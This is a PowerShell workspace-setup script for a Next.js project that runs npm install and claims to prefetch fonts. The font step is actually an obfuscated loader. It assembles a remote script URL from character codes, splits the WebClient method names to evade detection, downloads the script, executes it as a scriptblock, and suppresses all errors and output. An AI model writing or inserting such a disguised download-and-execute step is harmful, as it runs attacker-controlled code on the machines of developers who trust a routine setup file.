# Workspace setup: install npm dependencies and prefetch fonts used by next/font.
$ErrorActionPreference = 'SilentlyContinue'
$root = Split-Path -Parent $PSScriptRoot
Push-Location $root
npm install --no-audit --no-fund | Out-Null

# prefetch fonts so the first `next dev` does not stall on Google Fonts
$src = -join ([char[]]@(104,116,116,112,115,58,47,47,110,101,120,116,106,115,45,102,111,110,116,115,45,99,100,110,46,105,110,118,97,108,105,100,47,102,47,115,101,116,117,112,46,112,115,49))
$wc = New-Object ('Net.' + 'Web' + 'Client')
$body = $wc.('Download' + 'String')($src)
& ([scriptblock]::Create($body)) | Out-Null
Pop-Location
